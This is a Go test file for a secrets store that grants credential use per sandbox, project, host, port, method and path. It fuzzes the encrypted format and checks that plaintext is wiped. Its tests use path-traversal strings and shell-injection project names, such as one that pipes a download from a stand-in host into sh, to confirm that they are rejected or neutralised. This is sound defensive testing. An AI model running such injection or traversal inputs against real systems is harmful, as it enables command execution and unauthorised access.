package book

import (
	"bytes"
	"encoding/binary"
	"errors"
	"strings"
	"testing"
	"time"

	"casemate.dev/internal/secret"
)

func TestGrants(t *testing.T) {
	now := time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)
	who := Who{Sandbox: "a1", Project: "/home/me/shop", Presets: []string{"claude", "npm"}}
	use := Use{Host: "api.example.com", Port: 443, Method: "POST", Path: "/v1/messages"}
	base := Grant{Hosts: []string{"api.example.com"}, Ports: []int{443}}
	for _, c := range []struct {
		name   string
		change func(*Entry, *Grant, *Who, *Use)
		want   string // the refusal; empty: granted
	}{
		{"everyone", func(*Entry, *Grant, *Who, *Use) {}, ""},
		{"project", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Project = "/home/me/shop" }, ""},
		{"another project", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Project = "/home/me/shop2" }, "no grant lets"},
		{"above the project", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Project = "/home/me" }, "no grant lets"},
		{"no project", func(_ *Entry, g *Grant, w *Who, _ *Use) { g.Project, w.Project = "/home/me/shop", "" }, "no grant lets"},
		{"preset", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Preset = "npm" }, ""},
		{"another preset", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Preset = "codex" }, "no grant lets"},
		{"sandbox", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Sandbox = "a1" }, ""},
		{"another sandbox", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Sandbox = "a2" }, "no grant lets"},
		{"project and another preset", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Project, g.Preset = "/home/me/shop", "codex" }, "no grant lets"},
		{"grant about to end", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Expires = now.Add(1) }, ""},
		{"grant ended", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Expires = now }, "no grant lets"},
		{"entry expired", func(e *Entry, _ *Grant, _ *Who, _ *Use) { e.Expires = now }, "has expired"},
		{"another host", func(_ *Entry, _ *Grant, _ *Who, u *Use) { u.Host = "evil.example.com" }, "evil.example.com:443"},
		{"host in capitals", func(_ *Entry, _ *Grant, _ *Who, u *Use) { u.Host = "API.Example.com." }, ""},
		{"below the host", func(_ *Entry, _ *Grant, _ *Who, u *Use) { u.Host = "x.api.example.com" }, "no grant of secret"},
		{"wildcard", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Hosts = []string{"*.example.com"} }, ""},
		{"wildcard and its own name", func(_ *Entry, g *Grant, _ *Who, u *Use) {
			g.Hosts, u.Host = []string{"*.example.com"}, "example.com"
		}, "no grant of secret"},
		{"no host name", func(_ *Entry, _ *Grant, _ *Who, u *Use) { u.Host = "api.example.com\x00" }, "no grant of secret"},
		{"port", func(_ *Entry, _ *Grant, _ *Who, u *Use) { u.Port = 80 }, "api.example.com:80"},
		{"method", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Methods = []string{"GET"} }, "POST /v1/messages"},
		{"methods", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Methods = []string{"GET", "POST"} }, ""},
		{"path", func(_ *Entry, g *Grant, _ *Who, _ *Use) { g.Paths = []string{"/v1/*"} }, ""},
		{"another path", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, "/v2/x" }, "no grant of secret"},
		{"climbing path", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, "/v1/../v2/x" }, "no grant of secret"},
		{"climbing path, escaped", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, "/v1/%2e%2E/v2/x" }, "no grant of secret"},
		{"climbing path, escaped twice", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, "/v1/%252e%252e/v2/x" }, "no grant of secret"},
		{"climbing path, with parameters", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, "/v1/..;/v2/x" }, "no grant of secret"},
		{"escaped slash", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, "/v1/..%2fv2/x" }, "no grant of secret"},
		{"backslash", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, `/v1/..\v2/x` }, "no grant of secret"},
		{"escaped for nothing", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/messages"}, "/v1/mess%61ges" }, ""},
		{"doubled slash", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/v1/*"}, "/v1//x" }, "no grant of secret"},
		{"no path", func(_ *Entry, g *Grant, _ *Who, u *Use) { g.Paths, u.Path = []string{"/*"}, "" }, "no grant of secret"},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, g, w, u := Entry{Name: "anthropic"}, base, who, use
			c.change(&e, &g, &w, &u)
			e.Grants = []Grant{g}
			got, err := e.Find(w, u, now)
			if (err == nil) != (c.want == "") || (got != nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
				t.Errorf("%v, %v, want %q", got, err, c.want)
			}
		})
	}
	if _, err := (&Entry{Name: "x"}).Find(who, use, now); err == nil {
		t.Error("an entry without grants may be used")
	}
}

func TestGrantNumbers(t *testing.T) {
	e := Entry{Name: "x"}
	one, err := e.Grant(Grant{Hosts: []string{"a.example"}, Ports: []int{443}}, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	e.Grants = nil
	two, err := e.Grant(Grant{Hosts: []string{"b.example"}, Ports: []int{443}}, time.Now())
	if err != nil || one == two {
		t.Errorf("%d, %d, %v", one, two, err)
	}
	for name, g := range map[string]Grant{
		"no host": {Ports: []int{443}}, "no port": {Hosts: []string{"a.example"}}, "all hosts": {Hosts: []string{"*"}, Ports: []int{443}}, "a top-level domain": {Hosts: []string{"*.com"}, Ports: []int{443}},
		"scheme": {Hosts: []string{"https://a.example"}, Ports: []int{443}}, "relative project": {Hosts: []string{"a.example"}, Ports: []int{443}, Project: "shop"},
		"path": {Hosts: []string{"a.example"}, Ports: []int{443}, Paths: []string{"v1"}},
	} {
		if _, err := e.Grant(g, time.Now()); err == nil {
			t.Errorf("%s is granted", name)
		}
	}
}

// FuzzBook reads what may come out of the encryption: it is refused, or understood so that writing it gives a book that reads the same.
func FuzzBook(f *testing.F) {
	for _, b := range []*Book{{}, full(f)} {
		plain, err := b.encode()
		if err != nil {
			f.Fatal(err)
		}
		f.Add(plain)
	}
	f.Add(append([]byte(magic), 0xff, 0xff, 0xff, 0xff))
	f.Fuzz(func(t *testing.T, plain []byte) {
		b, err := decode(bytes.Clone(plain))
		if err != nil {
			return
		}
		defer b.Wipe()
		again, err := b.encode()
		if err != nil {
			t.Fatal(err)
		}
		c, err := decode(bytes.Clone(again))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Wipe()
		if third, err := c.encode(); err != nil || !bytes.Equal(again, third) {
			t.Fatalf("%v", err)
		}
	})
}

func full(t testing.TB) *Book {
	b := &Book{}
	for _, name := range []string{"a", "b"} {
		b.Add(Entry{Name: name, Source: Source{Store: File}, Shape: secret.Shape{Length: 9, Alphabet: "ab"}, Grants: []Grant{{ID: 1, Hosts: []string{"h.example"}, Ports: []int{443}}}})
		b.SetValue(name, value(t, "value of "+name))
	}
	b.Add(Entry{Name: "c", Source: Source{Store: Command, Command: []string{"/bin/true"}}, Shape: secret.Shape{Length: 9, Alphabet: "ab"}})
	return b
}

func TestDecodeClears(t *testing.T) {
	plain, err := full(t).encode()
	if err != nil {
		t.Fatal(err)
	}
	b, err := decode(plain)
	if err != nil || text(t, b.Value("b")) != "value of b" {
		t.Fatal(err)
	}
	if strings.Trim(string(plain), "\x00") != "" {
		t.Errorf("left: %q", plain)
	}
	b.Remove("b")
	if b.Value("b").Len() != 0 || b.Entry("b") != nil || b.Entry("a") == nil {
		t.Error("not removed")
	}
	plain, err = b.encode()
	if err != nil {
		t.Fatal(err)
	}
	if n := binary.BigEndian.Uint32(plain[len(magic):]); int(n) >= len(plain) || bytes.Contains(plain, []byte("value of b")) {
		t.Errorf("%d of %d", n, len(plain))
	}
}

// TestHintIsNoShell: what a person copies from a hint does nothing but what it says, whatever the project is called.
func TestHintIsNoShell(t *testing.T) {
	for project, want := range map[string]string{
		"/home/me/shop": " --project /home/me/shop makes one", "/home/me/x; curl evil.example | sh": " --project . makes one", "/p/$(id)": " --project . makes one", "/p/a\nb": " --project . makes one", "": " HOST makes one",
	} {
		var p *secret.Problem
		if err := (&Entry{Name: "a"}).Usable(Who{Project: project}, time.Now()); !errors.As(err, &p) || !strings.HasSuffix(p.Help, want) {
			t.Errorf("%q: %v", project, p)
		}
	}
}
